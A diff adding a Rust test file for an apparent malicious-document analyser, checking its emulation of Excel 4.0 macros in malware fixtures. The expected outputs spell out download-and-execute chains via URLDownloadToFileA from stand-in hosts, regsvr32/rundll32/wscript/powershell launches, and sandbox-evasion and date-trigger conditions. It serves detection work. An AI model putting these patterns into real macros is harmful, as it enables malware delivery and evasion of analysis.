@@ -1,0 +1,151 @@
+//! What macros do when they run, on the fixtures: whole effects, in order.
+
+use std::sync::LazyLock;
+
+use docsift::report::Report;
+use docsift_corpus::fixtures::{self, Fixture, twin};
+
+fn report(name: &str) -> Report {
+    static ALL: LazyLock<Vec<Fixture>> = LazyLock::new(fixtures::all);
+    let fixture = ALL.iter().find(|fixture| fixture.name == name);
+    docsift::analyze(&fixture.unwrap_or_else(|| panic!("no fixture {name}")).bytes)
+}
+
+/// Kind, cell and text of what was evaluated.
+fn evaluated(report: &Report) -> Vec<String> {
+    let effects = report.behaviour.iter().filter(|effect| effect.basis == "evaluated");
+    let shown = effects.map(|effect| {
+        let cell = effect.location.cell.as_deref().unwrap_or("?");
+        let condition = effect.condition.as_ref().map(|text| format!(" if {text}")).unwrap_or_default();
+        format!("{} {cell} {}{condition}", effect.kind, effect.text)
+    });
+    shown.collect()
+}
+
+#[test]
+fn every_variant_of_the_twin_yields_its_four_pairs() {
+    for name in [
+        "twin.xls",
+        "twin-relaunch-cells.xls",
+        "twin-relaunch-textbox.xls",
+        "twin-relaunch-picture.xls",
+        "twin-name-disguised.xls",
+    ] {
+        let report = report(name);
+        let fetched: Vec<_> = report
+            .behaviour
+            .iter()
+            .filter(|effect| effect.kind == "fetch")
+            .map(|effect| (effect.detail.url.clone().unwrap(), effect.detail.to.clone().unwrap()))
+            .collect();
+        let run: Vec<_> = report
+            .behaviour
+            .iter()
+            .filter(|effect| effect.kind == "run")
+            .map(|effect| effect.detail.command.clone().unwrap())
+            .collect();
+        let expected: Vec<_> =
+            (1..).zip(twin::urls()).map(|(number, url)| (url, format!("..\\oxnv{number}.ooccxx"))).collect();
+        assert_eq!(fetched, expected, "{name}");
+        let commands: Vec<_> = (1..=4)
+            .map(|number| format!("C:\\Windows\\System32\\regsvr32.exe /S ..\\oxnv{number}.ooccxx"))
+            .collect();
+        assert_eq!(run, commands, "{name}");
+        let kinds: Vec<_> = report.behaviour.iter().map(|effect| effect.kind).collect();
+        assert_eq!(kinds, ["fetch", "run"].repeat(4), "{name}");
+    }
+}
+
+#[test]
+fn loops_blocks_and_calls_decide_what_is_run() {
+    assert_eq!(evaluated(&report("xlm-control-flow.xls")), ["run Macro1!A18 EXEC(done.exe)"]);
+    assert_eq!(evaluated(&report("xlm-user-function.xls")), ["run Macro1!A1 EXEC(oxnv1.exe)"]);
+}
+
+#[test]
+fn what_only_running_shows_is_found() {
+    let powershell = "run Macro1!A20 EXEC(powershell -File oxnv1.ps1)";
+    let cases: &[(&str, &[&str])] = &[
+        ("run-for-loop.xls", &[powershell]),
+        ("run-while-loop.xls", &[powershell]),
+        ("run-format-key.xls", &[powershell]),
+        (
+            "run-text-in-formula.xls",
+            &[
+                "fetch Vrgt!G16 urlmon.URLDownloadToFileA(0, https://one.invalid/a=b&c/, ..\\oxnv1.ooccxx, 0, 0)",
+                "run Vrgt!G18 EXEC(C:\\Windows\\System32\\regsvr32.exe /S ..\\oxnv1.ooccxx)",
+            ],
+        ),
+        ("run-day-key.xls", &["run Macro1!A20 EXEC(powershell -File oxnv1.ps1) if DAY(NOW()) is 17"]),
+        ("run-assignment.xls", &["run Macro1!A10 EXEC(oxnv1.exe)"]),
+        ("run-overwrites-itself.xls", &["run Macro1!A1 EXEC(oxnv1.exe)"]),
+        (
+            "run-fallback.xls",
+            &[
+                "fetch Macro1!A1 urlmon.URLDownloadToFileA(0, http://one.invalid/a, ..\\oxnv1.dll, 0, 0)",
+                "run Macro1!A2 EXEC(rundll32 ..\\oxnv1.dll,Start)",
+                "fetch Macro1!A1 urlmon.URLDownloadToFileA(0, http://two.invalid/b, ..\\oxnv1.dll, 0, 0) if \
+                 URLDownloadToFileA of http://one.invalid/a<>0 is TRUE",
+            ],
+        ),
+        (
+            "run-script-drop.xls",
+            &["write Macro1!A1 FOPEN(..\\oxnv1.vbs)", "run Macro1!A5 EXEC(wscript ..\\oxnv1.vbs)"],
+        ),
+        ("run-japan-only.xls", &["run Macro1!A3 EXEC(oxnv1.exe) if GET.WORKSPACE(37)<>81 is FALSE"]),
+        (
+            "xlm-environment.xls",
+            &[
+                "run Macro1!A5 EXEC(oxnv1.exe) if GET.WORKSPACE(13)<770 is FALSE and GET.WORKSPACE(14)<390 is \
+                 FALSE and GET.WORKSPACE(19) is TRUE and GET.WORKSPACE(42) is TRUE",
+                "close Macro1!A1 CLOSE(FALSE) if GET.WORKSPACE(13)<770 is TRUE",
+                "close Macro1!A2 CLOSE(FALSE) if GET.WORKSPACE(14)<390 is TRUE",
+                "close Macro1!A3 CLOSE(TRUE) if GET.WORKSPACE(19) is FALSE",
+                "close Macro1!A4 CLOSE(TRUE) if GET.WORKSPACE(42) is FALSE",
+            ],
+        ),
+        (
+            "xlm-event-hook.xls",
+            &["persist Macro1!A1 ON.TIME({NOW}, Macro1!R5C1)", "run Macro1!A5 EXEC(oxnv1.exe)"],
+        ),
+    ];
+    for (name, expected) in cases {
+        assert_eq!(evaluated(&report(name)), *expected, "{name}");
+    }
+}
+
+#[test]
+fn a_written_file_has_what_was_written() {
+    let report = report("run-script-drop.xls");
+    let written = report.behaviour.iter().find(|effect| effect.kind == "write").unwrap();
+    assert_eq!(written.detail.path.as_deref(), Some("..\\oxnv1.vbs"));
+    assert_eq!(written.detail.content.as_deref(), Some("' line 1\r\nWScript.Quit"));
+    let sentence = "Malicious: on opening it writes ..\\oxnv1.vbs and runs it with wscript.";
+    assert_eq!(report.verdict.sentence, sentence);
+}
+
+#[test]
+fn programs_without_an_end_end_at_a_limit_and_keep_what_was_found() {
+    let stopped = |name: &str| {
+        let report = report(name);
+        let limits = report.problems.iter().filter(|problem| problem.kind == "limit_reached");
+        let what = |message: &str| message.split(" (at most").next().unwrap_or_default().to_owned();
+        let messages: Vec<_> = limits.map(|problem| what(&problem.message)).collect();
+        (evaluated(&report), messages)
+    };
+    let stop = |what: &str| vec![format!("the run of a macro was stopped: limit reached: {what}")];
+    let first = vec!["run Macro1!A1 EXEC(oxnv1.exe)".to_owned()];
+    let steps = stop("steps");
+    assert_eq!(stopped("run-ten-million.xls"), (first.clone(), steps.clone()));
+    assert_eq!(stopped("run-calls-itself.xls"), (first, stop("nesting depth")));
+    assert_eq!(stopped("xlm-endless-loop.xls"), (Vec::new(), steps));
+    let (effects, messages) = stopped("run-doubles-a-text.xls");
+    assert_eq!((effects, messages), (Vec::new(), stop("steps")));
+}
+
+#[test]
+fn the_first_line_says_what_happens() {
+    let sentence = "Malicious: on opening it downloads hxxps://one[.]invalid/abc/ to ..\\oxnv1.ooccxx (and 3 more) \
+                    and runs it with regsvr32.";
+    assert_eq!(report("twin.xls").verdict.sentence, sentence);
+}
